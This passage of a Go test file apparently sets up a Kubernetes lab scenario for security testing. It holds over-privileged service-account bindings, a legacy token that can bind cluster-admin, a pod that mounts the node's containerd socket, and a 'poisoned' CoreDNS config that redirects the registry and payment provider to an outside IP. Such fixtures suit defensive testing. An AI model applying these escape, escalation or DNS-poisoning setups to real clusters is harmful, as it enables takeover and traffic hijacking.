			{APIGroups: []string{""}, Resources: []string{"namespaces"}, Verbs: ro},
			{APIGroups: []string{""}, Resources: []string{"events"}, Verbs: []string{"create", "patch"}},
		}},
	} {
		_, err := admin.RbacV1().ClusterRoles().Create(ctx, cr, metav1.CreateOptions{})
		must("clusterrole "+cr.Name, err)
	}
	_, err := admin.RbacV1().Roles("ci").Create(ctx, &rbacv1.Role{ObjectMeta: metav1.ObjectMeta{Name: "runner"}, Rules: []rbacv1.PolicyRule{
		{APIGroups: []string{"batch"}, Resources: []string{"jobs"}, Verbs: []string{"get", "list", "watch", "create", "delete"}},
		{APIGroups: []string{""}, Resources: []string{"configmaps"}, Verbs: []string{"get", "list", "create", "delete"}},
		{APIGroups: []string{""}, Resources: []string{"pods", "pods/log"}, Verbs: ro},
	}}, metav1.CreateOptions{})
	must("role ci/runner", err)

	sa := func(ns, name string) rbacv1.Subject {
		return rbacv1.Subject{Kind: rbacv1.ServiceAccountKind, Namespace: ns, Name: name}
	}
	group := func(name string) rbacv1.Subject {
		return rbacv1.Subject{APIGroup: rbacv1.GroupName, Kind: rbacv1.GroupKind, Name: name}
	}
	for _, b := range []struct {
		name, role string
		subject    rbacv1.Subject
	}{
		{"telemetry-agent", "telemetry-agent", sa("observability", "telemetry-agent")},
		{"tenant-provisioner", "tenant-provisioner", sa("platform", "tenant-provisioner")},
		{"argocd-application-controller", "cluster-admin", sa("argocd", "argocd-application-controller")},
		{"cert-manager-controller-certificates", "cert-manager-controller-certificates", sa("cert-manager", "cert-manager")},
		{"external-secrets-controller", "external-secrets-controller", sa("external-secrets", "external-secrets")},
		{"sre-cluster-admin", "cluster-admin", group("sre")},
		{"auditors-view", "view", group("auditors")},
		{"kubeadm:node-autoapprove-certificate-rotation", "system:certificates.k8s.io:certificatesigningrequests:selfnodeclient", group("system:nodes")},
	} {
		_, err := admin.RbacV1().ClusterRoleBindings().Create(ctx, &rbacv1.ClusterRoleBinding{ObjectMeta: metav1.ObjectMeta{Name: b.name},
			RoleRef: rbacv1.RoleRef{APIGroup: rbacv1.GroupName, Kind: "ClusterRole", Name: b.role}, Subjects: []rbacv1.Subject{b.subject}}, metav1.CreateOptions{})
		must("clusterrolebinding "+b.name, err)
	}
	for _, b := range []struct {
		ns, name, kind, role string
		subject              rbacv1.Subject
	}{
		{"shop", "platform-team-admin", "ClusterRole", "admin", group("platform-team")},
		{"ci", "runner", "Role", "runner", sa("ci", "runner")},
	} {
		_, err := admin.RbacV1().RoleBindings(b.ns).Create(ctx, &rbacv1.RoleBinding{ObjectMeta: metav1.ObjectMeta{Name: b.name},
			RoleRef: rbacv1.RoleRef{APIGroup: rbacv1.GroupName, Kind: b.kind, Name: b.role}, Subjects: []rbacv1.Subject{b.subject}}, metav1.CreateOptions{})
		must("rolebinding "+b.ns+"/"+b.name, err)
	}

	// Secrets and ConfigMaps the scenario reads or changes.
	for _, s := range []*corev1.Secret{
		{ObjectMeta: metav1.ObjectMeta{Name: "tenant-provisioner-token", Namespace: "platform", Annotations: map[string]string{corev1.ServiceAccountNameKey: "tenant-provisioner"}}, Type: corev1.SecretTypeServiceAccountToken},
		h3tlsSecret("cert-manager", "ca-key-pair", "0"),
		{ObjectMeta: metav1.ObjectMeta{Name: "etcd-backup-credentials", Namespace: "kube-system"}, Data: map[string][]byte{"s3-secret-key": []byte("wJalrXUtnFEMI/K7MDENG")}},
		h3helmRelease(1, "deployed"),
	} {
		_, err := admin.CoreV1().Secrets(s.Namespace).Create(ctx, s, metav1.CreateOptions{})
		must("secret "+s.Namespace+"/"+s.Name, err)
	}
	for _, cm := range []*corev1.ConfigMap{
		{ObjectMeta: metav1.ObjectMeta{Name: "coredns", Namespace: "kube-system"}, Data: map[string]string{"Corefile": h3corefile(false)}},
		{ObjectMeta: metav1.ObjectMeta{Name: "runtime-sensor-config", Namespace: "security"}, Data: map[string]string{"rules.yaml": "- rule: shell in container\n  enabled: true\n- rule: write below /etc\n  enabled: true\n"}},
		{ObjectMeta: metav1.ObjectMeta{Name: "feature-flags", Namespace: "shop"}, Data: map[string]string{"new-checkout": "false"}},
	} {
		_, err := admin.CoreV1().ConfigMaps(cm.Namespace).Create(ctx, cm, metav1.CreateOptions{})
		must("configmap "+cm.Namespace+"/"+cm.Name, err)
	}

	// Workloads: the security tooling, the payments ledger, shop's Helm
	// release and a legacy pod on the node.
	dep := func(ns, name, image string, replicas int32, labels map[string]string) *appsv1.Deployment {
		sel := map[string]string{"app": name}
		l := map[string]string{"app": name}
		for k, v := range labels {
			l[k] = v
		}
		return &appsv1.Deployment{ObjectMeta: metav1.ObjectMeta{Name: name, Namespace: ns, Labels: l},
			Spec: appsv1.DeploymentSpec{Replicas: ptr(replicas), Selector: &metav1.LabelSelector{MatchLabels: sel},
				Template: corev1.PodTemplateSpec{ObjectMeta: metav1.ObjectMeta{Labels: sel}, Spec: h3restrictedPodSpec(name, image)}}}
	}
	for _, d := range []*appsv1.Deployment{
		dep("security", "policy-controller", "ghcr.io/kyverno/kyverno:v1.13.2", 1, nil),
		dep("payments", "ledger", "registry.corp.example/payments/ledger:4.2.0", 1, nil),
		dep("shop", "frontend", "registry.corp.example/shop/frontend:2.4.0", 2, map[string]string{"app.kubernetes.io/managed-by": "Helm"}),
	} {
		_, err := admin.AppsV1().Deployments(d.Namespace).Create(ctx, d, metav1.CreateOptions{})
		must("deployment "+d.Namespace+"/"+d.Name, err)
	}
	sensor := map[string]string{"app": "runtime-sensor"}
	_, err = admin.AppsV1().DaemonSets("security").Create(ctx, &appsv1.DaemonSet{ObjectMeta: metav1.ObjectMeta{Name: "runtime-sensor", Labels: sensor},
		Spec: appsv1.DaemonSetSpec{Selector: &metav1.LabelSelector{MatchLabels: sensor}, Template: corev1.PodTemplateSpec{ObjectMeta: metav1.ObjectMeta{Labels: sensor},
			Spec: corev1.PodSpec{Tolerations: []corev1.Toleration{{Operator: corev1.TolerationOpExists}}, Containers: []corev1.Container{{Name: "sensor", Image: "registry.corp.example/security/runtime-sensor:1.9.0",
				SecurityContext: &corev1.SecurityContext{Privileged: ptr(true)}}}}}}}, metav1.CreateOptions{})
	must("daemonset security/runtime-sensor", err)
	ledger := &corev1.Pod{ObjectMeta: metav1.ObjectMeta{Name: "ledger-db-0", Namespace: "payments", Labels: map[string]string{"app": "ledger-db"}}, Spec: h3restrictedPodSpec("ledger", "registry.corp.example/payments/ledger-db:15.4")}
	legacy := &corev1.Pod{ObjectMeta: metav1.ObjectMeta{Name: "web-legacy-0", Namespace: "shop", Labels: map[string]string{"app": "web-legacy"}}, Spec: h3restrictedPodSpec("web", "registry.corp.example/shop/web:v1.7.9")}
	legacy.Spec.NodeName = c.NodeName
	for _, p := range []*corev1.Pod{ledger, legacy} {
		_, err := admin.CoreV1().Pods(p.Namespace).Create(ctx, p, metav1.CreateOptions{})
		must("pod "+p.Namespace+"/"+p.Name, err)
	}

	// Admission policy: a Kyverno-style webhook (scoped to nothing, so it is
	// never called) and an in-tree ValidatingAdmissionPolicy for tenants.
	_, err = admin.AdmissionregistrationV1().ValidatingWebhookConfigurations().Create(ctx, &admissionregistrationv1.ValidatingWebhookConfiguration{
		ObjectMeta: metav1.ObjectMeta{Name: "kyverno-resource-validating-webhook-cfg", Labels: map[string]string{"webhook.kyverno.io/managed-by": "kyverno"}},
		Webhooks: []admissionregistrationv1.ValidatingWebhook{{
			Name:         "validate.kyverno.svc-fail",
			ClientConfig: admissionregistrationv1.WebhookClientConfig{Service: &admissionregistrationv1.ServiceReference{Namespace: "security", Name: "kyverno-svc", Path: ptr("/validate/fail")}},
			Rules: []admissionregistrationv1.RuleWithOperations{{Operations: []admissionregistrationv1.OperationType{admissionregistrationv1.Create, admissionregistrationv1.Update},
				Rule: admissionregistrationv1.Rule{APIGroups: []string{""}, APIVersions: []string{"v1"}, Resources: []string{"pods"}}}},
			NamespaceSelector:       &metav1.LabelSelector{MatchLabels: map[string]string{"policy.corp.example/enforce": "true"}},
			FailurePolicy:           ptr(admissionregistrationv1.Ignore),
			SideEffects:             ptr(admissionregistrationv1.SideEffectClassNone),
			AdmissionReviewVersions: []string{"v1"}, TimeoutSeconds: ptr(int32(3)),
		}},
	}, metav1.CreateOptions{})
	must("validatingwebhookconfiguration", err)
	_, err = admin.AdmissionregistrationV1().ValidatingAdmissionPolicies().Create(ctx, &admissionregistrationv1.ValidatingAdmissionPolicy{
		ObjectMeta: metav1.ObjectMeta{Name: "deny-privileged-containers"},
		Spec: admissionregistrationv1.ValidatingAdmissionPolicySpec{
			FailurePolicy: ptr(admissionregistrationv1.Fail),
			MatchConstraints: &admissionregistrationv1.MatchResources{ResourceRules: []admissionregistrationv1.NamedRuleWithOperations{{RuleWithOperations: admissionregistrationv1.RuleWithOperations{
				Operations: []admissionregistrationv1.OperationType{admissionregistrationv1.Create, admissionregistrationv1.Update},
				Rule:       admissionregistrationv1.Rule{APIGroups: []string{""}, APIVersions: []string{"v1"}, Resources: []string{"pods"}}}}}},
			Validations: []admissionregistrationv1.Validation{{
				Expression: "object.spec.containers.all(c, !has(c.securityContext) || !has(c.securityContext.privileged) || c.securityContext.privileged != true)",
				Message:    "privileged containers are not allowed in tenant namespaces"}},
		},
	}, metav1.CreateOptions{})
	must("validatingadmissionpolicy", err)
	_, err = admin.AdmissionregistrationV1().ValidatingAdmissionPolicyBindings().Create(ctx, &admissionregistrationv1.ValidatingAdmissionPolicyBinding{
		ObjectMeta: metav1.ObjectMeta{Name: "deny-privileged-containers-tenants"},
		Spec: admissionregistrationv1.ValidatingAdmissionPolicyBindingSpec{PolicyName: "deny-privileged-containers",
			ValidationActions: []admissionregistrationv1.ValidationAction{admissionregistrationv1.Deny},
			MatchResources:    &admissionregistrationv1.MatchResources{NamespaceSelector: &metav1.LabelSelector{MatchLabels: map[string]string{"tenant": "true"}}}},
	}, metav1.CreateOptions{})
	must("validatingadmissionpolicybinding", err)

	// Credentials.
	w := &h3world{}
	token := func(ns, name string) string {
		t.Helper()
		tr, err := admin.CoreV1().ServiceAccounts(ns).CreateToken(ctx, name, &authenticationv1.TokenRequest{Spec: authenticationv1.TokenRequestSpec{ExpirationSeconds: ptr(int64(3600))}}, metav1.CreateOptions{})
		if err != nil {
			t.Fatalf("setup: token %s/%s: %v", ns, name, err)
		}
		return tr.Status.Token
	}
	eventually(t, 60*time.Second, "kube-controller-manager's horizontal-pod-autoscaler ServiceAccount", func() (bool, string) {
		_, err := admin.CoreV1().ServiceAccounts("kube-system").Get(ctx, "horizontal-pod-autoscaler", metav1.GetOptions{})
		return err == nil, fmt.Sprint(err)
	})
	var provToken string
	eventually(t, 60*time.Second, "the legacy token of platform/tenant-provisioner", func() (bool, string) {
		s, err := admin.CoreV1().Secrets("platform").Get(ctx, "tenant-provisioner-token", metav1.GetOptions{})
		if err != nil {
			return false, err.Error()
		}
		provToken = string(s.Data["token"])
		return provToken != "", "no token yet"
	})
	w.agentKC = c.TokenKubeconfig(t, "h3-telemetry-agent", token("observability", "telemetry-agent"))
	w.promToken = token("observability", "prometheus")
	w.provKC = c.TokenKubeconfig(t, "h3-tenant-provisioner", provToken)
	w.argoKC = c.TokenKubeconfig(t, "h3-argocd", token("argocd", "argocd-application-controller"))
	w.certMgrKC = c.TokenKubeconfig(t, "h3-cert-manager", token("cert-manager", "cert-manager"))
	w.esoKC = c.TokenKubeconfig(t, "h3-external-secrets", token("external-secrets", "external-secrets"))
	w.ciKC = c.TokenKubeconfig(t, "h3-ci-runner", token("ci", "runner"))
	w.hpaKC = c.TokenKubeconfig(t, "h3-hpa", token("kube-system", "horizontal-pod-autoscaler"))
	w.aliceKC = c.UserKubeconfig(t, "alice@corp", "platform-team")
	w.samKC = c.UserKubeconfig(t, "sam@corp", "sre")
	w.raviKC = c.UserKubeconfig(t, "ravi@corp", "auditors")
	w.danaKC = c.UserKubeconfig(t, "dana@corp", "shop-devs")
	w.nodeKC = c.UserKubeconfig(t, "system:node:"+c.NodeName, "system:nodes")

	// Wait until the authorizer's informers know every grant.
	for _, q := range []struct {
		user   string
		groups []string
		ra     authorizationv1.ResourceAttributes
	}{
		{"system:serviceaccount:observability:telemetry-agent", h3saGroups("observability"), authorizationv1.ResourceAttributes{Verb: "list", Resource: "secrets"}},
		{"system:serviceaccount:platform:tenant-provisioner", h3saGroups("platform"), authorizationv1.ResourceAttributes{Verb: "bind", Group: "rbac.authorization.k8s.io", Resource: "clusterroles", Name: "cluster-admin"}},
		{"system:serviceaccount:argocd:argocd-application-controller", h3saGroups("argocd"), authorizationv1.ResourceAttributes{Verb: "patch", Group: "apps", Resource: "deployments", Namespace: "shop"}},
		{"system:serviceaccount:cert-manager:cert-manager", h3saGroups("cert-manager"), authorizationv1.ResourceAttributes{Verb: "create", Resource: "secrets", Namespace: "shop"}},
		{"system:serviceaccount:external-secrets:external-secrets", h3saGroups("external-secrets"), authorizationv1.ResourceAttributes{Verb: "create", Resource: "secrets", Namespace: "payments"}},
		{"system:serviceaccount:ci:runner", h3saGroups("ci"), authorizationv1.ResourceAttributes{Verb: "create", Group: "batch", Resource: "jobs", Namespace: "ci"}},
		{"system:serviceaccount:kube-system:horizontal-pod-autoscaler", h3saGroups("kube-system"), authorizationv1.ResourceAttributes{Verb: "update", Group: "apps", Resource: "deployments", Subresource: "scale", Namespace: "shop"}},
		{"alice@corp", []string{"platform-team", "system:authenticated"}, authorizationv1.ResourceAttributes{Verb: "create", Resource: "secrets", Namespace: "shop"}},
		{"sam@corp", []string{"sre", "system:authenticated"}, authorizationv1.ResourceAttributes{Verb: "patch", Resource: "nodes"}},
		{"ravi@corp", []string{"auditors", "system:authenticated"}, authorizationv1.ResourceAttributes{Verb: "list", Group: "batch", Resource: "cronjobs"}},
	} {
		if err := h3waitSAR(ctx, admin, q.user, q.groups, q.ra); err != nil {
			t.Fatalf("setup: %v", err)
		}
	}
	return w
}

// h3saGroups are the groups a ServiceAccount token authenticates with.
func h3saGroups(ns string) []string {
	return []string{"system:serviceaccounts", "system:serviceaccounts:" + ns, "system:authenticated"}
}

// h3waitSAR waits until a SubjectAccessReview of user/groups/ra is allowed.
func h3waitSAR(ctx context.Context, admin kubernetes.Interface, user string, groups []string, ra authorizationv1.ResourceAttributes) error {
	deadline := time.Now().Add(30 * time.Second)
	for {
		r, err := admin.AuthorizationV1().SubjectAccessReviews().Create(ctx, &authorizationv1.SubjectAccessReview{Spec: authorizationv1.SubjectAccessReviewSpec{
			User: user, Groups: groups, ResourceAttributes: &ra}}, metav1.CreateOptions{})
		if err == nil && r.Status.Allowed {
			return nil
		}
		if time.Now().After(deadline) {
			return fmt.Errorf("%s %+v never allowed (last: %v)", user, ra, err)
		}
		time.Sleep(100 * time.Millisecond)
	}
}

// h3waitAdmitted waits until a server-side dry run of pod in ns by the
// admin is admitted (Pod Security reads namespace labels from an informer).
func h3waitAdmitted(ctx context.Context, admin kubernetes.Interface, ns string, pod *corev1.Pod) error {
	deadline := time.Now().Add(30 * time.Second)
	for {
		_, err := admin.CoreV1().Pods(ns).Create(ctx, pod.DeepCopy(), metav1.CreateOptions{DryRun: []string{metav1.DryRunAll}})
		if err == nil {
			return nil
		}
		if time.Now().After(deadline) {
			return fmt.Errorf("dry run of pod %s/%s never admitted: %v", ns, pod.Name, err)
		}
		time.Sleep(100 * time.Millisecond)
	}
}

// h3waitSigned waits until kube-controller-manager has signed the CSR.
func h3waitSigned(ctx context.Context, admin kubernetes.Interface, name string) error {
	deadline := time.Now().Add(30 * time.Second)
	for {
		csr, err := admin.CertificatesV1().CertificateSigningRequests().Get(ctx, name, metav1.GetOptions{})
		if err == nil && len(csr.Status.Certificate) > 0 {
			return nil
		}
		if time.Now().After(deadline) {
			return fmt.Errorf("CSR %s never signed (last: %v)", name, err)
		}
		time.Sleep(100 * time.Millisecond)
	}
}

// h3dialer dials from the local address ip ("" for the default).
func h3dialer(ip string) func(ctx context.Context, network, addr string) (net.Conn, error) {
	d := &net.Dialer{Timeout: 10 * time.Second}
	if ip != "" {
		d.LocalAddr = &net.TCPAddr{IP: net.ParseIP(ip)}
	}
	return d.DialContext
}

// h3config is a recorded REST config for kubeconfig, dialing from ip with
// user agent ua.
func h3config(t *testing.T, rec *auditRecorder, kubeconfig, ip, ua string) *rest.Config {
	t.Helper()
	cfg := rec.wrap(lab.RESTConfig(t, kubeconfig), "")
	cfg.Dial = h3dialer(ip)
	cfg.UserAgent = ua
	return cfg
}

// h3anonClient is an HTTP client without credentials, dialing from ip,
// whose requests rec records.
func h3anonClient(t *testing.T, c *lab.Cluster, rec *auditRecorder, ip string) *http.Client {
	t.Helper()
	tr := &http.Transport{TLSClientConfig: &tls.Config{RootCAs: caPool(t, c.CACertPath), MinVersion: tls.VersionTLS12}, DialContext: h3dialer(ip)}
	return &http.Client{Timeout: 10 * time.Second, Transport: rtFunc(func(req *http.Request) (*http.Response, error) {
		return rec.RoundTrip(tr, req)
	})}
}

// h3rawGet GETs url (with a bearer token when set) and wants status want.
func h3rawGet(ctx context.Context, hc *http.Client, url, token string, want int) error {
	req, err := http.NewRequestWithContext(ctx, http.MethodGet, url, nil)
	if err != nil {
		return err
	}
	req.Header.Set("User-Agent", h3UACurl)
	req.Header.Set("Accept", "*/*")
	if token != "" {
		req.Header.Set("Authorization", "Bearer "+token)
	}
	resp, err := hc.Do(req)
	if err != nil {
		return err
	}
	resp.Body.Close()
	if resp.StatusCode != want {
		return fmt.Errorf("GET %s: HTTP %d, want %d", url, resp.StatusCode, want)
	}
	return nil
}

// h3denied wants a 403 Forbidden.
func h3denied(err error) error {
	if apierrors.IsForbidden(err) {
		return nil
	}
	return fmt.Errorf("want 403 Forbidden, got %v", err)
}

// h3pastAuthz accepts success or any failure after authorization (no
// kubelet: proxy, exec and logs fail after the request was authorized).
func h3pastAuthz(err error) error {
	if apierrors.IsForbidden(err) || apierrors.IsUnauthorized(err) {
		return fmt.Errorf("refused by authentication/authorization: %w", err)
	}
	var se *apierrors.StatusError
	if err != nil && !errors.As(err, &se) {
		return fmt.Errorf("not an API error: %w", err)
	}
	return nil
}

// h3csr returns a PEM certificate request for CN=cn, O=orgs, and its key.
func h3csr(t *testing.T, cn string, orgs ...string) ([]byte, *ecdsa.PrivateKey) {
	t.Helper()
	key, err := ecdsa.GenerateKey(elliptic.P256(), rand.Reader)
	if err != nil {
		t.Fatal(err)
	}
	der, err := x509.CreateCertificateRequest(rand.Reader, &x509.CertificateRequest{Subject: pkix.Name{CommonName: cn, Organization: orgs}}, key)
	if err != nil {
		t.Fatal(err)
	}
	return pem.EncodeToMemory(&pem.Block{Type: "CERTIFICATE REQUEST", Bytes: der}), key
}

func h3json(v any) []byte {
	b, err := json.Marshal(v)
	if err != nil {
		panic(err)
	}
	return b
}

// h3restrictedPodSpec is a pod spec that passes Pod Security "restricted".
func h3restrictedPodSpec(name, image string) corev1.PodSpec {
	return corev1.PodSpec{
		SecurityContext: &corev1.PodSecurityContext{RunAsNonRoot: ptr(true), RunAsUser: ptr(int64(10001)), SeccompProfile: &corev1.SeccompProfile{Type: corev1.SeccompProfileTypeRuntimeDefault}},
		Containers: []corev1.Container{{Name: name, Image: image, SecurityContext: &corev1.SecurityContext{
			AllowPrivilegeEscalation: ptr(false), Capabilities: &corev1.Capabilities{Drop: []corev1.Capability{"ALL"}}}}},
	}
}

// h3restrictedSpecMap is h3restrictedPodSpec as an apply-patch map.
func h3restrictedSpecMap(name, image string) map[string]any {
	return map[string]any{
		"securityContext": map[string]any{"runAsNonRoot": true, "runAsUser": 10001, "seccompProfile": map[string]any{"type": "RuntimeDefault"}},
		"containers": []any{map[string]any{"name": name, "image": image, "ports": []any{map[string]any{"containerPort": 8080}},
			"securityContext": map[string]any{"allowPrivilegeEscalation": false, "capabilities": map[string]any{"drop": []any{"ALL"}}}}},
	}
}

// h3webDeployment is Argo CD's desired state of shop/web.
func h3webDeployment(tag string) []byte {
	return h3json(map[string]any{
		"apiVersion": "apps/v1", "kind": "Deployment",
		"metadata": map[string]any{"name": "web", "namespace": "shop", "labels": map[string]any{"app": "web", "argocd.argoproj.io/instance": "shop"}},
		"spec": map[string]any{"replicas": 2, "selector": map[string]any{"matchLabels": map[string]any{"app": "web"}},
			"template": map[string]any{"metadata": map[string]any{"labels": map[string]any{"app": "web"}},
				"spec": h3restrictedSpecMap("web", "registry.corp.example/shop/web:"+tag)}},
	})
}

// h3tlsSecret is a cert-manager style TLS Secret (revision rev).
func h3tlsSecret(ns, name, rev string) *corev1.Secret {
	return &corev1.Secret{
		ObjectMeta: metav1.ObjectMeta{Name: name, Namespace: ns, Labels: map[string]string{"controller.cert-manager.io/fao": "true"},
			Annotations: map[string]string{"cert-manager.io/certificate-name": name, "cert-manager.io/issuer-name": "corp-ca", "cert-manager.io/issuer-kind": "ClusterIssuer", "cert-manager.io/certificate-revision": rev}},
		Type: corev1.SecretTypeTLS,
		Data: map[string][]byte{"tls.crt": []byte("-----BEGIN CERTIFICATE-----\nrev" + rev + "\n-----END CERTIFICATE-----\n"), "tls.key": []byte("-----BEGIN EC PRIVATE KEY-----\nrev" + rev + "\n-----END EC PRIVATE KEY-----\n")},
	}
}

// h3helmRelease is Helm's release Secret of shop-frontend, version v.
func h3helmRelease(v int, status string) *corev1.Secret {
	return &corev1.Secret{
		ObjectMeta: metav1.ObjectMeta{Name: fmt.Sprintf("sh.helm.release.v1.shop-frontend.v%d", v), Namespace: "shop",
			Labels: map[string]string{"name": "shop-frontend", "owner": "helm", "status": status, "version": fmt.Sprint(v)}},
		Type: "helm.sh/release.v1",
		Data: map[string][]byte{"release": []byte(fmt.Sprintf("H4sIAAAAAAAC/release-v%d", v))},
	}
}

// h3sockPod is a pod mounting the node's containerd socket.
func h3sockPod(name string, labels map[string]string) *corev1.Pod {
	return &corev1.Pod{
		ObjectMeta: metav1.ObjectMeta{Name: name, Namespace: "shop", Labels: labels},
		Spec: corev1.PodSpec{Containers: []corev1.Container{{Name: "web", Image: "ghcr.io/shop-corp/web:v1.8.2",
			Command:      []string{"sh", "-c", "ctr -a /run/containerd/containerd.sock -n k8s.io containers list; sleep infinity"},
			VolumeMounts: []corev1.VolumeMount{{Name: "containerd", MountPath: "/run/containerd/containerd.sock"}}}},
			Volumes: []corev1.Volume{{Name: "containerd", VolumeSource: corev1.VolumeSource{HostPath: &corev1.HostPathVolumeSource{Path: "/run/containerd/containerd.sock", Type: ptr(corev1.HostPathSocket)}}}}},
	}
}

// h3corefile is the cluster's Corefile, poisoned or not.
func h3corefile(poisoned bool) string {
	hosts := ""
	if poisoned {
		hosts = "    hosts {\n        198.51.100.23 registry.corp.example\n        198.51.100.23 api.payments-provider.example\n        fallthrough\n    }\n"
	}
	return ".:53 {\n    errors\n    health {\n        lameduck 5s\n    }\n    ready\n" + hosts +
		"    kubernetes cluster.local in-addr.arpa ip6.arpa {\n        pods insecure\n        fallthrough in-addr.arpa ip6.arpa\n        ttl 30\n    }\n" +
		"    prometheus :9153\n    forward . /etc/resolv.conf {\n        max_concurrent 1000\n    }\n    cache 30\n    loop\n    reload\n    loadbalance\n}\n"
}
